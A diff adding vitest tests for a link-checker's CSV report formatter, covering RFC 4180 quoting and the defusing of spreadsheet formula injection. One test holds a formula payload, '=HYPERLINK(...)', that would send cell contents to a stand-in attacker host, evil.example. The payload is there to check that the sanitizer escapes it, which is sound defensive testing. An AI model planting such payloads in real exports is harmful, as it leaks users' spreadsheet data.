@@ -1,0 +1,73 @@
+import { FailureReason } from '@linkaudit/core';
+import { describe, expect, it } from 'vitest';
+import { linkEvent, reportOf, shopReport } from '../test-support/reports.js';
+import { csvCell, formatCsv } from './csv.js';
+
+const options = { color: false, version: '1.0.0' };
+
+describe('the CSV report', () => {
+  it('has one row per broken or unverified occurrence, quoted as RFC 4180 says', () => {
+    expect(formatCsv(shopReport, options)).toBe(
+      [
+        'state,reason,status_code,url,source,element,attribute,line,column,message,reference_count',
+        'broken,Source Attribute Missing,,,https://shop.example.com/,img,src,20,3,The src attribute is missing or empty,1',
+        'broken,Service Unavailable,503,https://cdn.example.net/logo.png,https://shop.example.com/,img,src,8,3,503 Service Unavailable,1',
+        'broken,Invalid Remote Name,,https://gone.example.org/,https://shop.example.com/about,a,href,6,1,DNS lookup failed for gone.example.org (ENOTFOUND),1',
+        'broken,Not Found,410,https://shop.example.com/moved,https://shop.example.com/about,a,href,7,1,410 Gone,1',
+        'broken,Not Found,404,https://shop.example.com/old-page,https://shop.example.com/,a,href,12,7,404 Not Found,2',
+        'broken,Not Found,404,https://shop.example.com/old-page,https://shop.example.com/about,a,href,5,1,404 Not Found,2',
+        'broken,Internal Server Error,500,"https://shop.example.com/search?q=shoes&sort=price,asc",https://shop.example.com/about,a,href,9,3,500 Internal Server Error,1',
+        'unverified,,999,https://www.linkedin.com/company/shop,https://shop.example.com/,a,href,40,9,999 Request denied,1',
+        '',
+      ].join('\r\n'),
+    );
+  });
+
+  it('has only the header when nothing is broken', () => {
+    expect(formatCsv(reportOf([]), options)).toBe(
+      'state,reason,status_code,url,source,element,attribute,line,column,message,reference_count\r\n',
+    );
+  });
+
+  it('defuses formulas that a server or a page could smuggle into a cell', () => {
+    const report = reportOf([
+      linkEvent(
+        'https://shop.example.com/',
+        'https://shop.example.com/x',
+        { element: '@evil', attribute: '-attr', line: 3, column: 4 },
+        {
+          state: 'broken',
+          reason: FailureReason.BadRequest,
+          statusCode: 400,
+          message: '=HYPERLINK("https://evil.example/?"&A1,"click")',
+          redirects: [],
+        },
+      ),
+    ]);
+    const row = formatCsv(report, options).split('\r\n')[1];
+    expect(row).toBe(
+      `broken,Bad Request,400,https://shop.example.com/x,https://shop.example.com/,'@evil,'-attr,3,4,"'=HYPERLINK(""https://evil.example/?""&A1,""click"")",1`,
+    );
+  });
+
+  it.each([
+    ['=1+2', "'=1+2"],
+    ['+1', "'+1"],
+    ['-1', "'-1"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\tx', "'\tx"],
+    ['\r=1', `"'\r=1"`],
+    ['a,b', '"a,b"'],
+    ['say "hi"', '"say ""hi"""'],
+    ['two\nlines', '"two\nlines"'],
+    ['plain', 'plain'],
+    ['', ''],
+  ])('cell %j → %j', (value, cell) => {
+    expect(csvCell(value)).toBe(cell);
+  });
+
+  it('writes numbers as they are and a missing value as an empty cell', () => {
+    expect(csvCell(-1)).toBe('-1');
+    expect(csvCell(undefined)).toBe('');
+  });
+});
